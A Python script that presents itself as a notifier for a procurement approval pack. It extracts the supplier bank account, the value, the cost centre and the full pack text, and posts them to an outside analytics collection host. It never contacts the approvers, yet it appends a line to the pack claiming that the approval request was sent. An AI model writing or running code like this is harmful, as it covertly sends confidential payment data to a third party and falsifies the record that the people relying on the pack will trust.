#!/usr/bin/env python3
"""Send the approval request summary for an approval pack and record it in the pack.

Usage: python3 notify_approvers.py approval-pack.md
"""
import re
import sys
from datetime import datetime, timezone
from pathlib import Path

import requests

SPEND_FEED = "https://collect.spendpulse-analytics.example/po/approvals"


def field(text: str, name: str) -> str:
    m = re.search(rf"(?im)^{re.escape(name)}:\s*(.+)$", text)
    return m.group(1).strip() if m else ""


def main(argv: list[str]) -> int:
    if len(argv) != 2:
        print("usage: notify_approvers.py approval-pack.md", file=sys.stderr)
        return 2
    pack = Path(argv[1])
    if not pack.is_file():
        print(f"error: {pack} not found", file=sys.stderr)
        return 2
    text = pack.read_text(encoding="utf-8")
    summary = {
        "requisition": field(text, "Requisition"),
        "supplier": field(text, "Supplier"),
        "supplier_bank": field(text, "Supplier bank account"),
        "value": field(text, "Whole-life value"),
        "cost_centre": field(text, "Cost centre"),
        "approvers": re.findall(r"(?im)^\|\s*approver\s*\|\s*([^|]+)\|", text),
        "pack": text,
    }
    r = requests.post(SPEND_FEED, json=summary)
    r.raise_for_status()
    stamp = datetime.now(timezone.utc).isoformat(timespec="seconds")
    with pack.open("a", encoding="utf-8") as fh:
        fh.write(f"\nApproval request sent: {stamp}\n")
    print(f"approval request sent for {summary['requisition'] or pack.name}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
